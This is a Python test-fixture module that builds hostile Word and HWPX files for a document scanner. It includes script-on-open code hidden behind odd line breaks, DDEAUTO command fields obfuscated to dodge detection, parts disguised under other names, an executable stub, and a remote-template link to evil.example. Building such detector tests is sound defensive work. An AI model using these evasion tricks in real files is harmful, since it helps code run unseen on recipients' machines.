"""Office documents whose programmes, links and numbers stand where one does not look for them."""

from __future__ import annotations

from collections.abc import Iterator

from documents_made import archive, docx
from hostile import CANARY, RESIDENT, TAKEN, Hostile, refused, taken

_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_TYPES = "[Content_Types].xml"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_RELATED = (
    "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
    f"<Relationship Id='a' Type='{_KIND}{{}}' Target='http://evil.example/{CANARY}' TargetMode='External'/>"
    "</Relationships>"
)


def hidden_files() -> Iterator[Hostile]:
    """All of this kind."""
    yield from _scripts()
    yield from _fields()
    yield from _other_names()
    yield from _in_documents()


# Scripts behind remarks.

_RUNS = "function OnDocument_Open(){Run('calc')}"


def _scripts() -> Iterator[Hostile]:
    ends = {"LF": "\n", "CR": "\r", "CR LF": "\r\n", "line separator": "\u2028", "paragraph separator": "\u2029"}
    for what, end in ends.items():
        script = f"//{end}{_RUNS}{end}"
        for alphabet in ("utf-8", "utf-16-le"):
            yield refused(
                f"hwpx with a script behind a {what} in {alphabet}", "a.hwpx", _hwpx(script, alphabet), "macro"
            )
    idle = "//x\r\nvar Documents = XHwpDocuments;\r\nfunction OnDocument_New()\r\n{\r\n}\r\n"
    for alphabet in ("utf-8", "utf-16-le"):
        yield taken(f"hwpx with a script that does nothing in {alphabet}", "a.hwpx", _hwpx(idle, alphabet))


def _hwpx(script: str, alphabet: str) -> bytes:
    return archive(
        **{
            "mimetype": "application/hwp+zip",
            "Contents/section0.xml": "<a/>",
            "Scripts/headerScripts": script.encode(alphabet),
            "Preview/PrvText.txt": "<계획><둘째 칸>\r\n",
        }
    )


# Fields that start programmes.


def _body(inside: str) -> str:
    return f"<w:document xmlns:w='{_W}' xmlns:x='x'><w:body>{inside}</w:body></w:document>"


def _instruction(*pieces: str, between: str = "") -> str:
    return "<w:p>" + between.join(f"<w:instrText>{piece}</w:instrText>" for piece in pieces) + "</w:p>"


_DDE = _instruction("DDEAUTO cmd")


def _fields() -> Iterator[Hostile]:
    end = "<w:fldChar w:fldCharType='end'/>"
    for what, inside in {
        "in quotation marks": _instruction('"DDEAUTO" cmd "/k calc"'),
        "in quotation marks of print": _instruction("“DDE” cmd"),
        "behind another field": _instruction("PAGE", "DDE cmd", between=end),
        "behind another field, at once": _instruction("PAGE", "DDEAUTO cmd", between=end),
        "around what is passed over": _instruction("DD", "E cmd", between="<x:p/>"),
        "that is deleted": "<w:p><w:delInstrText>DDEAUTO cmd</w:delInstrText></w:p>",
        "behind two million letters": f"<w:p><w:t>{' '.join(map(str, range(350_000)))}</w:t></w:p>" + _DDE,
    }.items():
        content = docx("x", **{"word/document.xml": _body(inside)})
        yield refused(f"docx with DDE {what}", "a.docx", content, "macro")
    field = _instruction('HYPERLINK "https://example.com/hidden?added=1"')
    yield taken("docx with a harmless field", "a.docx", docx("x", **{"word/document.xml": _body(field)}))


# Parts under other names.


def _typed(declared: str, **parts: str | bytes) -> bytes:
    return archive(**{_TYPES: f"<Types>{declared}</Types>"} | parts)


def _override(name: str) -> str:
    return f'<Override PartName="{name}" ContentType="{_WORD}"/>'


def _other_names() -> Iterator[Hostile]:
    hidden = {"macro": _body(_DDE), "resident_number": _body(f"<w:p><w:t>{RESIDENT}</w:t></w:p>")}
    for reason, body in hidden.items():
        for what, content in {
            "a part of another ending": _typed(_override("/word/document.dat"), **{"word/document.dat": body}),
            "a part of an ending": _typed(f'<Default Extension="DAT" ContentType="{_WORD}"/>', **{"word/a.dat": body}),
            "a part spelt out": _typed(_override("/word/document.dat"), **{"word/%64ocument.dat": body}),
            "a part with parameters": _typed(
                f'<Override PartName="/word/a.dat" ContentType="{_WORD} ; charset=utf-8"/>' + _override("/word/b.xml"),
                **{"word/a.dat": body},
            ),
            "a part of no kind": docx("x", **{"word/document.dat": body}),
            "a part of wide letters": docx("x", **{"word/document.dat": body.encode("utf-16")}),
            "a theme": _typed(_override("/word/theme/document.xml"), **{"word/theme/document.xml": body}),
        }.items():
            yield refused(f"docx with {reason} in {what}", "a.docx", content, reason)
    section = archive(**{"mimetype": "application/hwp+zip", "Contents/section0.dat": hidden["resident_number"]})
    yield refused("resident number in an hwpx's part of another ending", "a.hwpx", section, "resident_number")
    for name in ("word/_rels/document.xml.%72els", "word/_rels/document.dat"):
        content = docx("x", **{name: _RELATED.format("attachedTemplate")})
        yield refused(f"docx with a template from elsewhere in {name}", "a.docx", content, "remote_template")
    broken = _typed(_override("/word/document.dat"), **{"word/document.dat": "<w:document"})
    yield refused("docx whose body of another ending is no xml", "a.docx", broken, "damaged")
    drawing = docx("x", **{"xl/drawings/vmlDrawing1.vml": "<xml><br></xml>"})
    yield taken("docx with a drawing that is nearly xml", "a.docx", drawing)


# Documents in documents.


def _in_documents() -> Iterator[Hostile]:
    def one(what: str, inner: bytes, *reasons: str, name: str = "word/embeddings/a.docx") -> Hostile:
        return Hostile(f"docx with a document inside: {what}", "a.docx", docx("x", **{name: inner}), reasons)

    remote = docx("x", **{"word/_rels/settings.xml.rels": _RELATED.format("attachedTemplate")})
    yield one("a template from elsewhere", remote, "remote_template")
    dde = docx("x", **{"word/document.xml": _body(_DDE)})
    yield one("DDE", dde, "macro")
    yield one("DDE, under another name", dde, "macro", name="word/embeddings/a.bin")
    yield one("a resident number", docx(RESIDENT), "resident_number")
    yield one("a page", docx("x", **{"word/a.html": "<p/>"}), "embedded")
    yield one("a programme", docx("x", **{"word/a.bin": b"MZ" + bytes(60)}), "embedded")
    yield one("a third document", docx("x", **{"word/embeddings/b.bin": docx("x")}), "embedded")
    yield one("a plain link", docx("x", **{"word/_rels/document.xml.rels": _RELATED.format("hyperlink")}), TAKEN)
